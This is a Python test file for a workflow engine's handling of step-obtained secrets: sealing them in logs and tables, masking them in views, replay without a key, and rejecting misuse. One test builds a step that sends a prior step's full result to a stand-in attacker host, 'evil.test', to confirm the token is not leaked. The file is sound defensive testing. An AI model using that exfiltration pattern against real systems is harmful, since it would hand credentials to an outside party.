"""Secrets that a workflow step obtains: sealed in the log, opened by the dispatcher only, replayed without a key."""

from typing import Any

import pytest

from mainspring.domain.run import Body, Outcome, RunStatus
from mainspring.ports.stores import Stores
from mainspring.views.execution import ExecutionValues
from mainspring.views.execution_log import LogEntryView
from mainspring.workflow.document import InvalidWorkflow
from mainspring.workflow.model import LogicalClock, Status
from mainspring.workflow.replay import replay, simulate
from mainspring.workflow.step_secrets import REFERENCE
from tests.actions import http_of
from tests.stores.databases import query
from tests.stores.flow_world import a_workflow, get
from tests.stores.world import START, FixedClock
from tests.workers.test_dispatcher import Stage

TOKEN = "planted-token-4711"
LOGIN = {
    "call": {"url": "https://a.test/token", "method": "POST", "secrets": {"token": "response.body.auth.access_token"}}
}
USE = "{{ steps.s0.result.secrets.token }}"
REPORT = {
    "call": {
        "url": f"https://a.test/report?t={USE}",
        "headers": {"Authorization": f"Bearer {USE}"},
        "body": {"nested": [f"<{USE}>"], "n": "{{ steps.s0.result.body.n }}"},
    }
}
GIVEN = Body(
    b'{"auth": {"access_token": "planted-token-4711"}, "n": 1, "echo": "it is planted-token-4711"}', "application/json"
)


@pytest.fixture
def stage(stores: Stores, clock: FixedClock) -> Stage:
    made = Stage(stores, clock)
    made.caller.answers["x1"] = Outcome(RunStatus.SUCCESS, 1, 200, body=GIVEN)
    return made


async def test_later_step_sends_the_token_that_an_earlier_one_obtained(stage: Stage, stores: Stores) -> None:
    await stage.begin(LOGIN, REPORT)
    await stage.go_on(2)

    request = stage.caller.requests[1]
    action = http_of(request)
    headers = {header.name: header.value for header in action.headers}
    assert headers["Authorization"] == f"Bearer {TOKEN}"
    assert action.url == f"https://a.test/report?t={TOKEN}"
    assert action.body == f'{{"nested":["<{TOKEN}>"],"n":1}}'
    assert request.hidden == (TOKEN,)  # removed from the response
    assert (await get(stores, "x1")).status is Status.COMPLETED


async def test_no_table_contains_the_token(stage: Stage, stores: Stores, store_url: str) -> None:
    await stage.begin(LOGIN, REPORT)
    await stage.go_on()
    stage.caller.answers["x1"] = Outcome(RunStatus.FAILURE, 1, 500, error="oops")
    await stage.go_on()

    state = (await get(stores, "x1")).state
    result: Any = state.steps["s0"]
    assert result["result"]["body"] == {"auth": {"access_token": "••••"}, "n": 1, "echo": "it is ••••"}
    assert REFERENCE.fullmatch(result["result"]["secrets"]["token"])
    entries = await stores.flows.logs.entries("default", "x1", 0, 10_000)
    assert TOKEN not in str(entries)
    assert TOKEN not in str(state)
    for table in ("execution", "execution_arrival", "execution_effect", "execution_entry", "event"):
        assert TOKEN not in str(await query(store_url, f"SELECT * FROM {table}"))


async def test_views_show_neither_the_token_nor_its_sealed_text(stage: Stage, stores: Stores) -> None:
    await stage.begin(LOGIN, REPORT)
    await stage.go_on(2)

    state = (await get(stores, "x1")).state
    entries = await stores.flows.logs.entries("default", "x1", 0, 10_000)
    shown = str([LogEntryView.of(each, LogicalClock(0, START)).as_json() for each in entries])
    shown += str(ExecutionValues.from_value(state).as_json())
    assert "<secret s0.token>" in shown
    assert not REFERENCE.search(shown)


async def test_log_replays_without_a_key(stage: Stage, stores: Stores) -> None:
    await stage.begin(LOGIN, REPORT)
    await stage.go_on(2)

    found = await get(stores, "x1")
    workflow = a_workflow(LOGIN, REPORT)
    entries = await stores.flows.logs.entries("default", "x1", 0, 10_000)
    zero, _ = await stores.flows.workflows.clock(found.partition, 1_000)
    assert replay(workflow, entries, found.state.salt, zero).identical


async def test_response_without_the_secret_fails_the_step(stage: Stage, stores: Stores) -> None:
    stage.caller.answers["x1"] = Outcome(RunStatus.SUCCESS, 1, 200, body=Body(b'{"auth": {}}', "application/json"))
    await stage.begin(LOGIN, REPORT)
    await stage.go_on()
    assert "no text at response.body.auth.access_token" in (await get(stores, "x1")).state.error


async def test_reference_that_the_document_does_not_name_is_not_opened(stage: Stage, stores: Stores) -> None:
    leak = {"call": {"url": "https://evil.test/", "body": {"all": "{{ steps.s0.result }}"}}}
    await stage.begin(LOGIN, leak)
    await stage.go_on(2)
    assert TOKEN not in str(http_of(stage.caller.requests[1]).body)


async def test_secret_is_found_in_a_header(stage: Stage, stores: Stores) -> None:
    headers = (("X-Session", TOKEN),)
    stage.caller.answers["x1"] = Outcome(RunStatus.SUCCESS, 1, 200, body=GIVEN, headers=headers)
    login = {"call": {"url": "https://a.test/token", "secrets": {"token": 'response.headers["x-session"]'}}}
    await stage.begin(login, REPORT)
    await stage.go_on(2)
    assert f"Bearer {TOKEN}" in [header.value for header in http_of(stage.caller.requests[1]).headers]


def test_simulation_needs_no_secret() -> None:
    played = simulate(a_workflow(LOGIN, {"call": {"url": f"https://a.test/?t={USE}"}}), {}, epoch=START)
    assert played.state.status is Status.COMPLETED


@pytest.mark.parametrize(
    ("step", "words"),
    [
        ({"email": {"to": "a@b.test", "subject": "x", "body": USE}}, "which only url, headers and body of a call may"),
        ({"set": {"copy": "steps.s0.result.secrets.token"}}, "which only url, headers and body of a call may"),
        ({"call": {"url": "https://a.test/", "body": "{{ size(steps.s0.result.secrets.token) }}"}}, "alone in its"),
        ({"call": {"url": "https://a.test/", "body": "{{ steps.s0.result.secrets.tokn }}"}}, "mean 's0.token'?"),
        ({"call": {"url": "https://{{ input.host }}/", "body": USE}}, "has a template in its host"),
        ({"call": {"url": "https://a.test/", "headers": {"Authorization": "x"}}}, "is a secret by its name"),
        ({"call": {"url": "https://a.test/", "secrets": {"t": "response.body"}}}, "is a field or a header"),
    ],
)
def test_wrong_use_of_a_secret_is_refused(step: dict[str, Any], words: str) -> None:
    with pytest.raises(InvalidWorkflow) as refused:
        a_workflow(LOGIN, step)
    assert words in str(refused.value)
